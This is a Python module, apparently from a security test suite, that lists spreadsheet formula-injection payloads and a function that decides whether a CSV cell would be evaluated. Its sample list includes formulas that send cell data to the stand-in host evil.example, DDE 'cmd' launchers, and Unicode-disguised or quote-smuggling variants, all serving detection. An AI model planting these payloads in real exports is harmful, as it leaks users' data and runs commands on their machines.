"""What formula injection looks like (threat 60), and what a spreadsheet would make of a cell."""

from __future__ import annotations

import re
import unicodedata

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMAGE("http://evil.example/a.png")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-A1",
    "@SUM(1+1)",
    "@cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=1+1";=2+2',
    "'=1+1",
    '<r></is></c><c r="A9"><f>1+1</f></c><c><is></r>',
)
_NUMBER = re.compile(r"[+-]?[0-9]+([.][0-9]+)?([eE][+-]?[0-9]+)?")


def is_unseen(character: str) -> bool:
    return character.isspace() or unicodedata.category(character) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def begins(character: str) -> bool:
    """Whether it is one of the four, or a form of it."""
    return unicodedata.normalize("NFKC", character)[:1] in {"=", "+", "-", "@"}


def is_live(cell: str) -> bool:
    """Whether some spreadsheet would run the cell of a CSV file, or stumble over it."""
    if _NUMBER.fullmatch(cell):
        return False
    seen = next((character for character in cell if not is_unseen(character)), "x")
    return begins(seen) or cell[:1] in {"\t", "\r", "\n"}
